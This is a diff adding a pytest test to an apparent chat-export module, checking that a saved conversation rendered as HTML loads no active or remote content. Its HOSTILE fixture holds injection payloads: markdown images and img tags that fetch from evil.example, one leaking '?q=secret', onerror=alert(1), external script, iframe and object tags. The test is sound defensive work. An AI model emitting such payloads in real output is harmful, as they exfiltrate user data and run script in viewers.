@@ -2,8 +2,10 @@
 
 from dataclasses import replace
 from datetime import timedelta
+from html.parser import HTMLParser
 
 import pytest
+from markdown_it import MarkdownIt
 
 from core.domain.documents import Chunk
 from core.domain.events import (
@@ -292,3 +294,36 @@ def test_a_model_that_stops_in_the_middle_of_an_answer_is_announced(language: st
     assert "slow-model" in answer
     assert "3 min" in answer
     assert "gt-silent" not in ended
+
+
+HOSTILE = r"""**Bold** 3 < 4 and 5<6
+\<img src=https://evil.example/d> \\<img src=x> \![z](https://evil.example/z) \\![z](https://evil.example/z)
+![x](https://evil.example/?q=secret) ![y][r] <img src=https://evil.example/a onerror=alert(1)>
+<script src="https://evil.example/s.js"></script><iframe src=https://evil.example></iframe>
+<style>@import url(//e)</style>
+```
+![in code](https://evil.example/c) <b>
+``` <img src=https://evil.example/b>
+    <object data=https://evil.example></object>
+
+[r]: https://evil.example/r
+"""
+
+
+class _Loading(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+
+
+def test_a_saved_conversation_loads_and_runs_nothing_in_a_viewer_that_allows_html() -> None:
+    citation = Citation(1, "c1", "d1", HOSTILE, 0, (), HOSTILE, 0.5, HOSTILE)
+    view = RunView(question=HOSTILE, answer=HOSTILE, citations=(citation,))
+    saved = chat_markdown(HOSTILE, [(RUN, view)])
+    page = _Loading()
+    page.feed(MarkdownIt("commonmark", {"html": True}).enable("table").render(saved))
+    assert set(page.tags) <= {"h1", "h2", "p", "strong", "em", "ol", "ul", "li", "pre", "code", "a", "br", "hr"}
+    assert "**Bold** 3 < 4 and 5<6" in saved
